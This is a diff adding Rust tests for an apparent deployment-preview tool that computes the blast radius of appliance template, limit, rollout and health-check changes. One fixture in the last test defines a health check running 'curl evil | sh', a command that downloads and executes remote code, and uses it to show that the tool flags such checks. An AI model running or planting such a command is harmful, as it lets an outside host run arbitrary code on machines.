@@ -245,3 +245,113 @@ fn a_unit_that_is_not_here_is_named() {
     let found = preview(side(&base), side(&head), &units, &[]);
     assert_eq!(found.compositions[0].paths.unknown_units, ["main/libssl 2", "main/libssl 3"]);
 }
+
+const WEB_3: &str = "main/web 1\n\nmain/base 1\nmain/libssl 3\n";
+
+#[test]
+fn no_commit_widens_its_own_limits() {
+    let limited = |limits: &str| format!("{CONFIGURATION}[limits]\n{limits}\n");
+    for (base, head, most, within) in [
+        ("touched-vas = 90", "touched-vas = 500", Some(90), false),
+        ("touched-vas = 90", "", Some(90), false),
+        ("touched-vas = 500", "touched-vas = 90", Some(90), false),
+        ("touched-vas = 91", "touched-vas = 500", Some(91), true),
+        ("", "", None, true),
+    ] {
+        let (base, head) = (limited(base), limited(head));
+        let base = [("strata.toml", base.as_str()), ("templates/web.ldf", WEB_2)];
+        let head = [("strata.toml", head.as_str()), ("templates/web.ldf", WEB_3)];
+        let radius = compare(&base, &head).blast_radius;
+        assert_eq!((radius.most_vas, radius.within_limits), (most, within));
+    }
+}
+
+#[test]
+fn vas_that_move_to_another_template_are_touched() {
+    let appliances = |ldf: &str| {
+        let declare = |n: u32| {
+            format!("[[appliance]]\nname = \"w{n}\"\nmac = \"52:54:00:00:00:0{n}\"\nldf = \"{ldf}\"\nring = \"canary\"\n")
+        };
+        (1..=5).map(declare).collect::<String>()
+    };
+    let configuration = format!("{CONFIGURATION}[limits]\ntouched-vas = 4\n");
+    let (web, sql) = (appliances("web"), appliances("sql"));
+    let of = |after_ldf: &str| {
+        let base = [
+            ("strata.toml", configuration.as_str()),
+            ("templates/web.ldf", WEB_2),
+            ("templates/sql.ldf", "main/base 1\n"),
+            ("appliances.toml", web.as_str()),
+        ];
+        let mut head = base;
+        head[1].1 = after_ldf;
+        head[3].1 = sql.as_str();
+        compare(&base, &head)
+    };
+    let found = of(WEB_2);
+    let radius = &found.blast_radius;
+    assert_eq!((radius.touched_vas, radius.moved_vas, radius.within_limits), (5, 5, false));
+    assert_eq!(found.appliances.len(), 5);
+    // Those whose template changes anyway are counted once.
+    let found = of(WEB_3);
+    assert_eq!((found.blast_radius.touched_vas, found.blast_radius.moved_vas), (91, 0));
+}
+
+#[test]
+fn what_is_no_layer_is_listed_too() {
+    let before = format!(
+        "{CONFIGURATION}[limits]\ntouched-vas = 2\n[rollout]\non-failure = \"auto-rollback\"\n"
+    )
+    .replace("rings = [\"canary\", \"everyone\"]\n", "")
+        + "[[rollout.ring]]\nname = \"canary\"\nsoak = \"1h\"\n[[rollout.ring]]\nname = \"everyone\"\n";
+    let check = "[[check]]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n";
+    let base = [
+        ("strata.toml", before.as_str()),
+        ("templates/web.ldf", WEB_2),
+        ("templates/web.health", "[[check]]\ntcp = \"{name}:80\"\n"),
+        ("templates/web.data", "/var/lib/web\n"),
+    ];
+    let head = [
+        ("strata.toml", CONFIGURATION),
+        ("templates/web.ldf", WEB_2),
+        ("templates/web.health", check),
+        ("templates/web.data", "/srv\n"),
+    ];
+    let found = compare(&base, &head);
+    assert!(found.accepted && !found.is_empty(), "{:?}", found.diagnostics);
+    let of = |value: &Option<String>| value.clone().unwrap_or_else(|| "-".to_owned());
+    let settings: Vec<_> = found
+        .settings
+        .iter()
+        .map(|change| format!("{}: {} → {}", change.key, of(&change.from), of(&change.to)))
+        .collect();
+    assert_eq!(
+        settings,
+        [
+            "limits.touched-vas: 2 → -",
+            "rings: - → [\"canary\", \"everyone\"]",
+            "rollout.on-failure: \"auto-rollback\" → -",
+            "rollout.ring: [\"canary\", \"everyone\"] → -",
+            "rollout.ring[canary].soak: \"1h\" → -",
+        ]
+    );
+    let health: Vec<_> = found
+        .health
+        .iter()
+        .map(|h| (h.change, h.tcp.is_some(), h.command.clone().unwrap_or_default().len(), h.vas))
+        .collect();
+    assert_eq!(health, [(CheckChange::Removed, true, 0, 93), (CheckChange::Added, false, 3, 93)]);
+    let data: Vec<_> = found.compositions[0]
+        .data
+        .iter()
+        .map(|data| (data.change, data.path.to_string()))
+        .collect();
+    let expected = [("/srv", Existence::Added), ("/var/lib/web", Existence::Removed)];
+    assert_eq!(data, expected.map(|(path, change)| (change, path.to_owned())));
+    // A command runs in every VA although no generation changes.
+    let base = [("strata.toml", CONFIGURATION), ("templates/web.ldf", WEB_2)];
+    let head = [base[0], base[1], ("templates/web.health", check)];
+    let found = compare(&base, &head);
+    assert_eq!((found.compositions.len(), found.blast_radius.touched_vas), (0, 91));
+    assert!(compare(&head, &base).blast_radius.touched_vas == 0, "none runs any more");
+}
